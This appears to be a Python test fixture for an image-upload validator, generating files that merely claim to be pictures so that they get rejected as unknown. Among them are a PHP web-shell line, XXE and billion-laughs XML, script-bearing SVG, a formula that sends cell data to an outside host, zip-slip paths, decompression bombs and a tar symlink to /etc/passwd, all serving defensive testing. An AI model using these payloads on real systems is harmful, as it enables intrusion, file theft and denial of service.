"""Files that are no picture at all, whatever they are called: each is unknown at its first bytes."""

from __future__ import annotations

import bz2
import gzip
import io
import lzma
import struct
import tarfile
import zipfile
from collections.abc import Iterator

from PIL import Image

from tests.evidence.intake import make
from tests.evidence.intake.corpus import MARK, UNKNOWN, Specimen, is_read

ENTITIES = b'<!DOCTYPE l [<!ENTITY a "ha">' + b"".join(
    b'<!ENTITY %c "%s">' % (98 + n, b"&%c;" % (97 + n) * 10) for n in range(9)
)
OUTSIDE = b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>'
SVG = b'<svg xmlns="http://www.w3.org/2000/svg" onload="marker()"><script>marker()</script></svg>'
OLE = bytes.fromhex("d0cf11e0a1b11ae1") + bytes(504)

# Formats by the bytes that they begin with: nothing behind them is ever looked at.
STARTS = {
    "elf": b"\x7fELF\x02\x01\x01",
    "windows program": b"MZ\x90\x00",
    "mach-o": b"\xcf\xfa\xed\xfe",
    "mach-o, fat": b"\xca\xfe\xba\xbe\x00\x00\x00\x02",
    "java class": b"\xca\xfe\xba\xbe\x00\x00\x00\x41",
    "web assembly": b"\x00asm\x01\x00\x00\x00",
    "android program": b"dex\n035\x00",
    "shell script": b"#!/bin/sh\nmarker\n",
    "php": b"<?php system($_GET[0]); ?>",
    "asp": b'<%@ Page Language="C#" %>',
    "batch file": b"@echo off\r\nmarker\r\n",
    "shortcut": b"L\x00\x00\x00\x01\x14\x02\x00\x00\x00\x00\x00\xc0\x00\x00\x00\x00\x00\x00F",
    "flash": b"FWS\x09\x00\x01\x00\x00",
    "flash, packed": b"CWS\x09\x00\x01\x00\x00",
    "python, compiled": b"\xa7\x0d\x0d\x0a",
    "pickle": b"\x80\x04\x95\x1c\x00\x00\x00\x00\x00\x00\x00\x8c\x05posix",
    "debian package": b"!<arch>\ndebian-binary   ",
    "rpm": b"\xed\xab\xee\xdb\x03\x00",
    "7z": b"7z\xbc\xaf\x27\x1c\x00\x04",
    "rar 4": b"Rar!\x1a\x07\x00",
    "rar 5": b"Rar!\x1a\x07\x01\x00",
    "zstandard": b"\x28\xb5\x2f\xfd",
    "lz4": b"\x04\x22\x4d\x18",
    "cabinet": b"MSCF\x00\x00\x00\x00",
    "empty zip": b"PK\x05\x06" + bytes(18),
    "zip, spanned": b"PK\x07\x08PK\x03\x04",
    "rtf": b"{\\rtf1\\ansi{\\object\\objautlink marker}}",
    "pdf behind other bytes": b"\n\n  %PDF-1.7\n",
    "postscript of windows": b"\xc5\xd0\xd3\xc6" + bytes(28),
    "djvu": b"AT&TFORM\x00\x00\x00\x10DJVU",
    "latex": b"\\documentclass{a}\\immediate\\write18{marker}",
    "photoshop": b"8BPS\x00\x01" + bytes(6),
    "gimp": b"gimp xcf v011\x00",
    "targa": b"\x00\x00\x02\x00\x00\x00\x00\x00\x00\x00\x00\x00\x08\x00\x08\x00\x18\x00",
    "pcx": b"\x0a\x05\x01\x08\x00\x00\x00\x00",
    "portable bitmap": b"P4\n8 8\n",
    "portable pixmap": b"P6\n8 8\n255\n",
    "portable float map": b"PF\n8 8\n-1.0\n",
    "openexr": b"\x76\x2f\x31\x01\x02\x00\x00\x00",
    "radiance": b"#?RADIANCE\nFORMAT=32-bit_rle_rgbe\n",
    "dds": b"DDS |\x00\x00\x00",
    "apple icons": b"icns\x00\x00\x00\x10",
    "cursor": b"\x00\x00\x02\x00\x01\x00",
    "windows metafile": b"\xd7\xcd\xc6\x9a\x00\x00",
    "enhanced metafile": b"\x01\x00\x00\x00\x6c\x00\x00\x00" + bytes(32) + b" EMF",
    "jpeg 2000 stream": b"\xff\x4f\xff\x51\x00\x2f",
    "jpeg xl": b"\xff\x0a\xfa\x1f",
    "jpeg xl in boxes": b"\x00\x00\x00\x0cJXL \r\n\x87\n",
    "jpeg xr": b"II\xbc\x01\x20\x00\x00\x00",
    "jpeg-ls": b"\xff\xd8\xff\xf7\x00\x0b",
    "bpg": b"BPG\xfb\x20\x00",
    "qoi": b"qoif\x00\x00\x00\x08\x00\x00\x00\x08\x03\x00",
    "x bitmap": b"#define x_width 8\n#define x_height 8\n",
    "x pixmap": b"/* XPM */\nstatic char *x[] = {",
    "sgi": b"\x01\xda\x01\x01\x00\x03",
    "sun raster": b"\x59\xa6\x6a\x95",
    "camera raw, canon": b"II\x2a\x00\x10\x00\x00\x00CR\x02\x00",
    "tiff, large": b"II\x2b\x00\x08\x00\x00\x00",
    "tiff, from the right": b"MM\x00\x2a\x00\x00\x00\x08",
    "mng": b"\x8aMNG\r\n\x1a\n",
    "jng": b"\x8bJNG\r\n\x1a\n",
    "matroska": b"\x1a\x45\xdf\xa3\x93\x42\x82\x88matroska",
    "webm": b"\x1a\x45\xdf\xa3\x93\x42\x82\x84webm",
    "avi": b"RIFF\x24\x00\x00\x00AVI LIST",
    "flash video": b"FLV\x01\x05\x00\x00\x00\x09",
    "windows media": bytes.fromhex("3026b2758e66cf11a6d900aa0062ce6c"),
    "mpeg": b"\x00\x00\x01\xba\x44\x00",
    "ogg": b"OggS\x00\x02",
    "flac": b"fLaC\x00\x00\x00\x22",
    "mp3 with a tag": b"ID3\x04\x00\x00\x00\x00\x00\x00",
    "mp3": b"\xff\xfb\x90\x64" + bytes(60),
    "aac": b"\xff\xf1\x50\x80",
    "amr": b"#!AMR\n",
    "midi": b"MThd\x00\x00\x00\x06",
    "sqlite": b"SQLite format 3\x00",
    "private key": b"-----BEGIN PRIVATE KEY-----\n",
    "mail": b"From: a@x.example\r\nSubject: " + MARK + b"\r\nMIME-Version: 1.0\r\n\r\n",
    "mailbox": b"From a@x.example Mon Mar  2 12:00:00 2026\n",
    "card": b"BEGIN:VCARD\r\nNOTE:" + MARK + b"\r\nEND:VCARD\r\n",
    "table with a formula": b'=HYPERLINK("https://x.example/?"&A1),2\n',
    "json": b'{"__proto__": {"a": 1}}',
    "style sheet": b"@import url(https://x.example/);",
    "html in capitals": b"\xef\xbb\xbf  <HTML><BODY ONLOAD=marker()>",
    "html in utf-16": "\ufeff<html><script>marker()</script>".encode("utf-16"),
    "mhtml": b"MIME-Version: 1.0\r\nContent-Type: multipart/related; boundary=x\r\n\r\n" + MARK,
    "svg": SVG,
    "svg with a head": b'<?xml version="1.0"?>\n<!DOCTYPE svg>' + SVG,
    "svg in utf-16": SVG.decode().encode("utf-16-le"),
    "svg that fetches": b'<svg xmlns="http://www.w3.org/2000/svg"><image href="file:///etc/passwd"/></svg>',
    "entities within entities": ENTITIES + b"]><l>&j;</l>",
    "entity from outside": OUTSIDE,
    "old document": OLE,
    "only nothing": bytes(4096),
    "only spaces": b" " * 4096,
    "a quine of ff": b"\xff" * 4096,
}
BRANDS = (
    "isom",
    "iso5",
    "mp41",
    "mp42",
    "avc1",
    "M4V ",
    "M4A ",
    "3gp4",
    "3g2a",
    "qt  ",
    "dash",
    "crx ",
    "jp2 ",
    "hevc",
)
HALF_HEIF = ("avif", "avis", "miaf", "MiHB", "jpeg", "j2ki")
BEFORE = (b"\x00", b"\n", b" ", b"\xef\xbb\xbf", b"MZ", b"%PDF-1.4\n", b"GIF89a", b"PK\x03\x04", b"#!/bin/sh\n", MARK)


def drawer() -> Iterator[Specimen]:
    found = {**STARTS, **_foreign(), **_brands(), **_archives(), **_pushed(), **_moving()}
    for name, data in found.items():
        yield Specimen("strangers", name, lambda data=data: data, UNKNOWN)
    for size in (1, 2, 3, 7, 8, 11, 12, 15, 16):
        yield Specimen("strangers", f"{size} bytes of a picture", lambda size=size: _first(size), UNKNOWN)
    yield Specimen("strangers", "no byte", lambda: b"", frozenset({"empty"}))


def _foreign() -> dict[str, bytes]:
    read = tuple(kind for kind in ("gif", "avif") if is_read(kind))
    return {name: data for name, data in make.foreign().items() if not (read and name.startswith(read))}


def _first(size: int) -> bytes:
    """A PNG is known by its first 16 bytes and by no fewer."""
    return make.saved(Image.new("RGB", (8, 8)), "PNG")[:size] if size < 16 else make.heic(Image.new("RGB", (8, 8)))[:16]


def _brands() -> dict[str, bytes]:
    boxes = {f"brand {one}": struct.pack(">I4s4sI4s", 20, b"ftyp", one.encode(), 0, one.encode()) for one in BRANDS}
    for one in HALF_HEIF:
        boxes[f"heif of {one}"] = struct.pack(">I4s4sI4s4s", 24, b"ftyp", b"mif1", 0, b"mif1", one.encode())
    for size in (0, 1, 8, 15, 513, 2**31, 2**32 - 1):
        boxes[f"heic whose first box is {size} bytes"] = struct.pack(">I4s4sI4s", size, b"ftyp", b"heic", 0, b"heic")
    return {name: data + bytes(600) for name, data in boxes.items() if "avi" not in name or not is_read("avif")}


def _archives() -> dict[str, bytes]:
    return {
        "zip that packs a bomb": _zipped({f"{n}.txt": bytes(1_000_000) for n in range(20)}),
        "zip that climbs": _zipped({"../../../etc/cron.d/x": MARK, "C:\\x.bat": MARK, "/abs": MARK}),
        "zip of a program": _zipped({"META-INF/MANIFEST.MF": b"Main-Class: X\n", "X.class": STARTS["java class"]}),
        "zip of a zip of a zip": _zipped({"a.zip": _zipped({"b.zip": _zipped({"c.txt": MARK})})}),
        "word with a macro": _zipped({"[Content_Types].xml": OUTSIDE, "word/vbaProject.bin": OLE}),
        "sheet with entities": _zipped({"[Content_Types].xml": ENTITIES, "xl/workbook.xml": ENTITIES}),
        "open document": _zipped({"mimetype": b"application/vnd.oasis.opendocument.text", "content.xml": OUTSIDE}),
        "book": _zipped({"mimetype": b"application/epub+zip", "a.xhtml": MARK}),
        "gzip bomb": gzip.compress(bytes(5_000_000), mtime=0),
        "svg, packed": gzip.compress(SVG, mtime=0),
        "bzip2 bomb": bz2.compress(bytes(5_000_000)),
        "xz bomb": lzma.compress(bytes(5_000_000)),
        "tar with a link": _tar(),
    }


def _zipped(files: dict[str, bytes]) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as bag:
        for name, data in files.items():
            bag.writestr(zipfile.ZipInfo(name), data, zipfile.ZIP_DEFLATED)
    return out.getvalue()


def _tar() -> bytes:
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode="w") as bag:
        link = tarfile.TarInfo("a.png")
        link.type, link.linkname = tarfile.SYMTYPE, "/etc/passwd"
        bag.addfile(link)
    return out.getvalue()


def _pushed() -> dict[str, bytes]:
    """Pictures behind a few bytes of something else: to a lenient reader they are both."""
    clean = {"png": make.saved(Image.new("RGB", (8, 8)), "PNG"), "jpeg": make.saved(Image.new("RGB", (8, 8)), "JPEG")}
    return {f"{kind} behind {before!r}": before + data for kind, data in clean.items() for before in BEFORE}


def _moving() -> dict[str, bytes]:
    """Kinds that only a part of the sites of this project reads."""
    small = Image.new("RGB", (8, 8))
    found = {kind: make.saved(small, kind.upper()) for kind in ("gif", "avif") if not is_read(kind)}
    return {f"a whole {kind}": data for kind, data in found.items()}
